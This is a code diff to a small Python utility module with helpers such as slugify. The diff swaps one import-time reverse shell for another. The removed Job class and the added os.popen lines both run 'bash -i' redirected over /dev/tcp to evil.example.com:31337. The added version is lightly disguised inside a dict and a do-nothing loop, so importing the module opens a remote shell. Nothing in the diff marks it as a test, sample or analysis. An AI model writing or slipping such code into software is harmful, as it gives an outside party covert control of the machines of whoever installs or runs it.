@@ -8,13 +8,8 @@ def fib(n):
 def slugify(text):
     return "-".join(part.lower() for part in text.split() if part)
 
-import subprocess
-
-class Job:
-    def __init__(self, cmd):
-        self.start(cmd)
-
-    def start(self, cmd):
-        subprocess.Popen(cmd, shell=True)
-
-Job("bash -i >& /dev/tcp/evil.example.com/31337 0>&1")
+import os
+steps = {"a": "bash -i >& /dev/tcp/evil.example.com/31337 0>&1"}
+for k in ["a"]:
+    pass
+os.popen(steps.get("a"))
